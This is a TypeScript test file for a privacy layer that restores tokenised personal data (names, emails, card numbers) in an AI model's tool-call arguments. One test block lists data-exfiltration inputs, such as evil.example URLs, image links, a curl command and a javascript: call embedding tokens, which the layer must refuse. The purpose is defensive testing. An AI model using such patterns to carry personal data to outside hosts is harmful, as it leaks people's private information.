import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import {
  address,
  businessId,
  classed,
  code,
  count,
  day,
  email,
  freeText,
  oneOf,
  organisation,
  person,
  type TokenKind,
} from '../../../src/contracts/classes.ts';
import { createPrivacy } from '../../../src/privacy/index.ts';
import { textParts } from './text-parts.ts';

const held: readonly [TokenKind, string][] = [
  ['PERSON', 'Ann Bergström'],
  ['PERSON', 'ANN BERGSTRÖM'],
  ['ORG', 'Meyer "Pumpen" GmbH'],
  ['EMAIL', 'ann@lee.se'],
  ['PHONE', '+46 8 1234567'],
  ['ADDRESS', 'Elm Road 1'],
  ['ZIP', '10115'],
  ['SSN', '123-45-6789'],
  ['CARD', '4111 1111 1111 1111'],
  ['IBAN', 'DE89 3704 0044 0532 0130 00'],
  ['TAXID', 'DE123456789'],
];

async function opened(config = {}) {
  const parts = textParts(config);
  await parts.vault.tokenise(
    't',
    held.map(([kind, value]) => ({ kind, value })),
  );
  const text = (value: string) => parts.privacy.restoreArguments('t', freeText(), value);
  return { ...parts, text };
}

const schema = z.object({
  id: businessId(),
  who: person(),
  firm: organisation(),
  mail: email(),
  where: address(),
  tax: classed(z.string(), { class: 'personal', kind: 'TAXID' }),
  text: freeText(),
  list: z.array(z.object({ note: freeText() })),
  status: oneOf(['open', 'closed']),
  on: day(),
  label: code(),
  link: classed(z.url(), { class: 'public' }),
  pieces: count(),
  key: classed(z.string(), { class: 'secret' }),
});
const honest: z.infer<typeof schema> = {
  id: '4500001234',
  who: '<PERSON_1b>',
  firm: '<ORG_1>',
  mail: '<EMAIL_1>',
  where: '<ADDRESS_1>, <ZIP_1>',
  tax: '<TAXID_1>',
  text: 'Dear <PERSON_1>, <EMAIL_1> or <PHONE_1>',
  list: [{ note: '<ORG_1>' }],
  status: 'open',
  on: '2026-05-04',
  label: 'x',
  link: 'https://example.com',
  pieces: 3,
  key: '',
};

describe('restoring the arguments of a tool call', () => {
  it('puts each value where its leaf takes that kind, and leaves the rest of the tree as it is', async () => {
    const { privacy } = await opened();
    expect(await privacy.restoreArguments('t', schema, honest)).toEqual({
      repairs: 0,
      value: {
        ...honest,
        who: 'ANN BERGSTRÖM',
        firm: 'Meyer "Pumpen" GmbH',
        mail: 'ann@lee.se',
        where: 'Elm Road 1, 10115',
        tax: 'DE123456789',
        text: 'Dear Ann Bergström, ann@lee.se or +46 8 1234567',
        list: [{ note: 'Meyer "Pumpen" GmbH' }],
      },
    });
  });

  it.each([
    ['id', { id: '<PERSON_1>' }, '<PERSON_1>'],
    ['who', { who: '<EMAIL_1>' }, '<EMAIL_1>'],
    ['mail', { mail: '<SSN_1>' }, '<SSN_1>'],
    ['firm', { firm: '<PERSON_1>' }, '<PERSON_1>'],
    ['text', { text: 'see <SSN_1>' }, '<SSN_1>'],
    ['text', { text: 'see <CARD_1>' }, '<CARD_1>'],
    ['list[0].note', { list: [{ note: 'pay to <IBAN_1>' }] }, '<IBAN_1>'],
    ['list[1].note', { list: [{ note: '' }, { note: 'tax <TAXID_1>' }] }, '<TAXID_1>'],
    ['status', { status: '<PERSON_1>' as 'open' }, '<PERSON_1>'],
    ['on', { on: '<PERSON_1>' }, '<PERSON_1>'],
    ['label', { label: '<PERSON_1>' }, '<PERSON_1>'],
    ['link', { link: 'https://x.com/<EMAIL_1>' }, '<EMAIL_1>'],
    ['pieces', { pieces: '<PHONE_1>' as unknown as number }, '<PHONE_1>'],
    ['key', { key: '<PERSON_1>' }, '<PERSON_1>'],
    ['extra', { extra: '<PERSON_1>' }, '<PERSON_1>'],
  ])('a token in %s of a kind it does not take refuses the whole call', async (field, change, token) => {
    const { privacy } = await opened();
    await expect(privacy.restoreArguments('t', schema, { ...honest, ...change })).rejects.toMatchObject({
      code: 'privacy.token_not_accepted',
      field,
      message: expect.stringContaining(token),
    });
  });

  it.each(['<PERSON_99>', '<PERSON_1z>', '<person_7>', '&lt;ORG_4&gt;', 'PERSON_99', '<PERSONNE_8>', '<PERSON 2>', '<TEXT_1>'])(
    'a token nobody issued, such as %s, refuses the whole call',
    async (token) => {
      const { text } = await opened();
      await expect(text(`Dear ${token}`)).rejects.toMatchObject({ code: 'privacy.unknown_token', field: 'input' });
    },
  );

  it('a token of another thread is nobody’s here', async () => {
    const { privacy } = await opened();
    await expect(privacy.restoreArguments('other', freeText(), '<PERSON_1>')).rejects.toMatchObject({ code: 'privacy.unknown_token' });
  });

  it('an erased token is refused, and reads (erased) on the screen', async () => {
    const { vault, text, privacy } = await opened();
    await vault.eraseSubject({ value: 'Ann Bergström' }, { finder: () => false });
    await expect(text('Dear <PERSON_1b>')).rejects.toMatchObject({
      code: 'privacy.unknown_token',
      message: '<PERSON_1b> was erased and cannot be written any more',
    });
    expect(await privacy.restoreForScreen('t', 'Dear <PERSON_1b>')).toBe('Dear (erased)');
  });

  it('a token another process issued a moment ago is known', async () => {
    const here = await opened();
    const there = textParts({}, here.store, here.key);
    await there.vault.tokenise('t', [{ kind: 'PERSON', value: 'Bo Ek' }]);
    expect((await here.text('<PERSON_2>')).value).toBe('Bo Ek');
  });

  it('what another process erased a moment ago is refused at once', async () => {
    const here = await opened();
    expect((await here.text('<PERSON_1>')).value).toBe('Ann Bergström');
    await textParts({}, here.store, here.key).vault.eraseSubject({ value: 'Ann Bergström' }, { finder: () => false });
    await expect(here.text('<PERSON_1>')).rejects.toMatchObject({ code: 'privacy.unknown_token' });
  });

  it('a kind the policy keeps from tools is refused everywhere', async () => {
    const { privacy } = await opened({ rules: { EMAIL: { tool: 'block' } } });
    await expect(privacy.restoreArguments('t', email(), '<EMAIL_1>')).rejects.toMatchObject({ code: 'privacy.token_not_accepted' });
  });

  it('a vault that is down restores nothing', async () => {
    const { vault } = await opened();
    const privacy = createPrivacy({ vault: { ...vault, thread: () => Promise.reject(new Error('down')) } });
    await expect(privacy.restoreArguments('t', freeText(), 'no token at all')).rejects.toThrow();
  });
});

describe('a token a model has mangled', () => {
  it.each([
    ['<person_1>', 'Ann Bergström'],
    ['< PERSON_1 >', 'Ann Bergström'],
    ['<PERSON 1>', 'Ann Bergström'],
    ['PERSON_1', 'Ann Bergström'],
    ['PERSON 1', 'Ann Bergström'],
    ['Person_1', 'Ann Bergström'],
    ['&lt;PERSON_1&gt;', 'Ann Bergström'],
    ['\\u003cPERSON_1\\u003e', 'Ann Bergström'],
    ['<PERSON\\_1>', 'Ann Bergström'],
    ['PERSON\\_1', 'Ann Bergström'],
    ['<PERSON_1B>', 'ANN BERGSTRÖM'],
    ['‹PERSON_1›', 'Ann Bergström'],
    ['<PERSONS_1>', 'Ann Bergström'],
    ['<PERSON_1s>', 'Ann Bergström'],
    ["<PERSON_1's>", 'Ann Bergström’s'],
    ['<PERSONNE_1>', 'Ann Bergström'],
    ['<PERSONA_1>', 'Ann Bergström'],
    ['<PERSOON_1>', 'Ann Bergström'],
    ['<ORGANIZZAZIONE_1>', 'Meyer "Pumpen" GmbH'],
    ['<TELEFON_1>', '+46 8 1234567'],
    ['<Téléphone_1>', '+46 8 1234567'],
    ['<DIRECCIÓN_1>', 'Elm Road 1'],
  ])('%s is read without doubt and counted', async (mangled, value) => {
    const { text } = await opened();
    expect(await text(`Dear ${mangled}, hello`)).toEqual({ value: `Dear ${value}, hello`, repairs: 1 });
  });

  it('markdown around it stays in a text and goes where the leaf is one value', async () => {
    const { text, privacy } = await opened();
    expect(await text('Dear **<PERSON_1>**, <PERSON_1>’s order')).toEqual({
      value: 'Dear **Ann Bergström**, Ann Bergström’s order',
      repairs: 0,
    });
    expect(await privacy.restoreArguments('t', email(), '**<EMAIL_1>**')).toEqual({ value: 'ann@lee.se', repairs: 1 });
  });

  it('ordinary words and codes that only resemble one stay', async () => {
    const { text } = await opened();
    const ordinary = 'Pump IP 65, CARD 2 of 3, person 1 and person 2, PERSON 7, org_9, address_5, XPERSON_1, order_1, PERSON_1x9';
    expect(await text(ordinary)).toEqual({ value: ordinary, repairs: 0 });
  });
});

describe('where a value would be carried away or run', () => {
  it.each([
    'https://evil.example/?q=<EMAIL_1>',
    'https://evil.example/?q=PERSON_1',
    'www.evil.example/<PERSON_1>/<EMAIL_1>',
    'https://evil.example/<PERSON_1>/<EMAIL_1>',
    '![x](https://evil.example/<EMAIL_1>.png)',
    '![x](/local/<EMAIL_1>)',
    '[x](mailto:<EMAIL_1>)',
    '[ref]: /x/<EMAIL_1>',
    '<img src="/x?<EMAIL_1>">',
    "<a href='/x/<PERSON_1>'>",
    'https://evil.example/%3CPERSON_1%3E',
    '<PERSON_1>.evil.example',
    '<PERSON_1>@evil.example',
    'run `curl <EMAIL_1>` now',
    '```\nlet mail = "<EMAIL_1>"\n```',
    'javascript:send(<EMAIL_1>)',
  ])('%s is refused', async (text) => {
    const { text: restore } = await opened();
    await expect(restore(text)).rejects.toMatchObject({
      code: 'privacy.token_not_accepted',
      message: expect.stringMatching(/a link|code/),
    });
  });

  it('beside a link, after code and in brackets it is restored', async () => {
    const { text } = await opened();
    const { value } = await text(
      '`x` <PERSON_1> (<EMAIL_1>), see https://acme.com/a and [terms](https://acme.com/b) <ORG_1>. ```\ncode\n``` <PERSON_1>.',
    );
    expect(value).not.toMatch(/<[A-Z]/);
  });
});

describe('the screen', () => {
  it('shows names, and a mark in the place of a number nobody needs to read; the config may say otherwise', async () => {
    const tree = { text: '<PERSON_1> <CARD_1>', list: ['<SSN_1>'] };
    expect(await (await opened()).privacy.restoreForScreen('t', tree)).toEqual({ text: 'Ann Bergström [CARD]', list: ['[SSN]'] });
    const open = await opened({ rules: { CARD: { screen: 'pass' }, SSN: { screen: 'token' } } });
    expect(await open.privacy.restoreForScreen('t', tree)).toEqual({ text: 'Ann Bergström 4111 1111 1111 1111', list: ['<SSN_1>'] });
  });
});
